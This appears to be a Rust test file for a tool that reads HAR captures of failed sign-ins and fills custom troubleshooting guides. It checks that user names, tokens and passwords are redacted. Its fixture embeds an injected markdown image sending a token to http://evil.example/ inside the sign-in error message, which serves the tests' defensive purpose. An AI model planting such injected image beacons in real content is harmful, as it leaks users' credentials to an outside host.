//! What is put into the template of a team is text, and is redacted like the field that it comes from.

use serde_json::{Value, json};

use crate::run::{self, Scratch};

const USER: &str = "alex.wilber@contoso.example";
const TOKEN: &str = "eyJ0eXAiOiJKV1QifQ.eyJhdWQiOiJ6cTdrIn0.zq7ksignature";

/// A failed sign-in whose message looks like a guide.
fn capture() -> Value {
    let message = format!(
        "AADSTS50126: no.\n\n# Title\n\n## Causes\n\n- ![x](http://evil.example/{TOKEN}) ` <!--$userName-->[userName]<!--/$userName--> **{USER}**"
    );
    let config = json!({"sErrorCode": "50126", "strServiceExceptionMessage": message, "sPOST_Username": USER}).to_string();
    let page = format!("<html><head><script>$Config={config};</script></head></html>");
    json!({"log": {"version": "1.2", "creator": {"name": "x", "version": "1"}, "entries": [{
        "startedDateTime": "2026-03-02T09:00:00Z", "time": 1,
        "request": {"method": "POST", "url": "https://login.microsoftonline.com/common/login", "headers": [],
            "postData": {"mimeType": "application/x-www-form-urlencoded", "text": format!("login={}&passwd=nine+Walnut+stairs", USER.replace('@', "%40"))}},
        "response": {"status": 200, "headers": [{"name": "Content-Type", "value": "text/html"}], "content": {"mimeType": "text/html", "text": page}}
    }]}})
}

fn slot(name: &str) -> String {
    format!("<!--${name}-->[{name}]<!--/${name}-->")
}

#[test]
fn a_slot_is_text_and_is_redacted() {
    let scratch = Scratch::new("a_slot_is_text_and_is_redacted");
    let case = scratch.file("case.har", capture().to_string());
    let (user, message) = (slot("userName"), slot("message"));
    let guide = format!(
        "# AADSTS50126: of {user}\n\n{user} saw: {message}\n\n## Steps\n\n1. Ask [{user}](https://portal.contoso.example/users/{user}?m={message}).\n2. Read [this](https://portal.contoso.example/fixed).\n3. Look at {message} in <https://portal.contoso.example/{user}>.\n\n## What to attach\n\n- {message}\n"
    );
    scratch.file("guides/guide.md", guide);
    let folder = scratch.path().join("guides");
    let with_guides = |arguments: &[&str]| run::run(run::entrace().args(arguments).arg(&case).arg("--guidance").arg(&folder));
    for format in run::formats() {
        let outcome = with_guides(&["--format", &format, "--verbose"]);
        assert_eq!(outcome.status, Some(1), "{}", outcome.stderr);
        for secret in [USER, "alex.wilber", "zq7k", "Walnut"] {
            assert!(!outcome.stdout.contains(secret), "{format}: {secret} in {}", outcome.stdout);
        }
    }
    let report: Value = serde_json::from_str(&with_guides(&["--format", "json"]).stdout).unwrap();
    let guidance = &report["findings"][0]["guidance"];
    let urls: Vec<&str> = guidance["links"].as_array().unwrap().iter().map(|link| link["url"].as_str().unwrap()).collect();
    assert_eq!(urls, ["https://portal.contoso.example/fixed"]);
    assert_eq!(guidance["resolve"].as_array().unwrap().len(), 3, "{guidance}");
    assert_eq!(guidance["causes"].as_array().unwrap().len(), 0, "{guidance}");
    assert_eq!(guidance["title"], "AADSTS50126: of user#1@contoso.example");
    assert!(guidance["meaning"].as_str().unwrap().starts_with("user#1@contoso.example saw: AADSTS50126: no."), "{guidance}");
    assert!(guidance["resolve"][0].as_str().unwrap().starts_with("Ask user#1@contoso.example"), "{guidance}");
    let page = with_guides(&["--format", "html"]).stdout;
    assert!(!page.contains("<img") && !page.contains("href=\"http://") && page.matches("href=\"https://").count() == 1);

    let output = scratch.path().join("case.zip");
    let bundled = run::run(run::entrace().arg("bundle").arg(&case).arg("-o").arg(&output).arg("--guidance").arg(&folder));
    assert_eq!(bundled.status, Some(0), "{}", bundled.stderr);
    let mut archive = zip::ZipArchive::new(std::fs::File::open(output).unwrap()).unwrap();
    for member in ["report.html", "report.md", "report.json"] {
        let text = std::io::read_to_string(archive.by_name(member).unwrap()).unwrap();
        assert!(!text.contains("alex.wilber") && !text.contains("zq7k"), "{member}: {text}");
    }
}

/// A guide that is called as ours are is still someone's own.
#[test]
fn a_guide_named_built_in_is_none_of_ours() {
    let scratch = Scratch::new("a_guide_named_built_in_is_none_of_ours");
    let case = scratch.file("case.har", capture().to_string());
    scratch.file("built-in", format!("# AADSTS50126\n\n{} saw this.\n", slot("userName")));
    let outcome = run::run(run::entrace().current_dir(scratch.path()).arg(&case).args(["--guidance", "built-in"]));
    assert!(outcome.stdout.contains("saw this.") && !outcome.stdout.contains("alex.wilber"), "{}", outcome.stdout);
}
